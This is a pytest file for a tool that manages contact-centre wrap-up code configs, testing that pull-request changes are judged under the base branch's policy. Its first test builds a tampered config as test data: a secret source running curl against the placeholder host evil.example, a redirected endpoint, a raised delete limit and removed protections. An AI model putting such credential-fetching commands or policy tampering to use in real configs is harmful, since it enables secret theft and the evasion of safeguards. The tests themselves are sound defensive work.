"""A pull request's content under the policy of the base branch."""

from __future__ import annotations

from pathlib import Path

import pytest

from project_files import acme, commit, problems, write
from wrapctl.config.base import Proposed, propose
from wrapctl.errors import ConfigError

REAL = """
    kind: Org
    platform: genesys
    region: eu-central-1
    organization_id: 11111111-2222-4333-8444-555555555555
    credentials:
      client_id: {env: ACME_CLIENT_ID}
      client_secret: {env: ACME_CLIENT_SECRET}
    manage: {protect: ["Fraud*"]}
    limits: {deletes: {max: 3}}
"""
CODES = "kind: WrapUpCodes\ncodes: {SALE: {name: Sale}, LOST: {name: Lost}}\n"
RULES = "kind: Project\ncategories: {sales: {tags: [a]}}\nstages: [[acme]]\nlimits: {orgs: 2}\n"


def _base(root: Path, **files: str) -> Path:
    acme(root, **{"org": REAL, "codes": CODES, "wrapctl": RULES, **files})
    commit(root)
    return root


def _told(proposed: Proposed) -> list[str]:
    return [f"{one.org or 'wrapctl.yaml'} {one.path}: {one.before} → {one.after}" for one in proposed.policy]


def test_content_is_of_the_head_and_everything_else_of_the_base(tmp_path: Path) -> None:
    root = _base(tmp_path)
    evil = (
        REAL.replace("region: eu-central-1", "endpoint: http://127.0.0.1:9")
        .replace("max: 3", "max: 3000")
        .replace('["Fraud*"]', "[]")
        .replace("{env: ACME_CLIENT_SECRET}", "{command: [curl, evil.example]}")
        .replace("11111111-", "99999999-")
    )
    write(
        root,
        org=evil,
        codes=CODES.replace("Lost", "Gone astray").replace("{name: Gone", "{previously: [Lost], name: Gone"),
    )
    proposed = propose(root, "HEAD")
    org = proposed.project.orgs["acme"]
    assert (org.region, org.endpoint) == ("eu-central-1", "")
    assert org.credentials["client_secret"].env == "ACME_CLIENT_SECRET"
    assert org.desired.organization_id == "11111111-2222-4333-8444-555555555555"
    assert org.desired.policy.limits.deletes.max == 3
    assert org.desired.policy.protect == ("Fraud*",)
    assert [code.name for code in org.desired.codes] == ["Gone astray", "Sale"]
    assert proposed.touched["acme"].scope.codes == frozenset({"LOST"})
    assert _told(proposed) == [
        'acme credentials.client_secret.command: None → ["curl", "evil.example"]',
        "acme credentials.client_secret.env: ACME_CLIENT_SECRET → None",
        "acme endpoint: None → http://127.0.0.1:9",
        "acme limits.deletes.max: 3 → 3000",
        'acme manage.protect: ["Fraud*"] → []',
        "acme organization_id: 11111111-2222-4333-8444-555555555555 → 99999999-2222-4333-8444-555555555555",
        "acme region: eu-central-1 → None",
    ]
    limit = next(one for one in proposed.policy if one.path == "limits.deletes.max")
    assert str(limit.source) == "wrapups/acme/org.yaml:9:25"


def test_rules_over_all_orgs_count_once_they_are_merged(tmp_path: Path) -> None:
    root = _base(tmp_path)
    write(root, wrapctl="kind: Project\ncategories: {sales: {tags: [b]}}\nlimits: {orgs: 900}\n")
    write(root, codes="kind: WrapUpCodes\ncodes: {SALE: {name: Sale, category: sales}, LOST: {name: Lost}}\n")
    proposed = propose(root, "HEAD")
    assert proposed.project.max_orgs == 2
    assert proposed.project.stages == (("acme",),)
    assert proposed.project.orgs["acme"].desired.codes[1].tags == ("a",)
    assert _told(proposed) == [
        'wrapctl.yaml categories.sales.tags: ["a"] → ["b"]',
        "wrapctl.yaml limits.orgs: 2 → 900",
        'wrapctl.yaml stages: [["acme"]] → None',
    ]


def test_content_that_needs_new_rules_waits_for_them(tmp_path: Path) -> None:
    root = _base(tmp_path)
    write(root, wrapctl=RULES.replace("sales: {tags: [a]}", "sales: {}, care: {}"))
    write(root, codes="kind: WrapUpCodes\ncodes: {SALE: {name: Sale, category: care}, LOST: {name: Lost}}\n")
    assert problems(root) == []
    with pytest.raises(ConfigError) as caught:
        propose(root, "HEAD")
    (problem,) = caught.value.problems
    assert "category" in problem.message
    assert "put its change into a pull request of its own, before this one" in problem.hint


def test_a_new_org_is_not_planned_before_it_is_merged(tmp_path: Path) -> None:
    root = _base(tmp_path)
    write(root, other__org="kind: Org\nplatform: genesys\nendpoint: sandbox\n", other__codes=CODES)
    proposed = propose(root, "HEAD")
    assert proposed.new == ("other",)
    assert list(proposed.project.orgs) == ["acme"]
    assert _told(proposed) == ["other org.yaml: None → a new org"]


def test_an_org_that_moves_to_another_platform_is_a_new_one(tmp_path: Path) -> None:
    root = _base(tmp_path, org="kind: Org\nplatform: genesys\nendpoint: sandbox\n")
    write(root, org="kind: Org\nplatform: cxone\nendpoint: sandbox\n")
    proposed = propose(root, "HEAD")
    assert proposed.new == ("acme",)
    assert proposed.changed == ()


def test_a_base_that_does_not_load_leaves_nothing_to_plan(tmp_path: Path) -> None:
    root = acme(tmp_path, org="kind: Org\nplatform: nothing\n")
    commit(root)
    write(root, org=REAL, codes=CODES)
    proposed = propose(root, "HEAD")
    assert proposed.new == ("acme",)
    assert proposed.changed == ()


def test_a_pull_request_that_touches_no_content_changes_no_org(tmp_path: Path) -> None:
    root = _base(tmp_path)
    write(root, codes="# a comment\n" + CODES)
    proposed = propose(root, "HEAD")
    assert proposed.changed == ()
    assert proposed.policy == ()
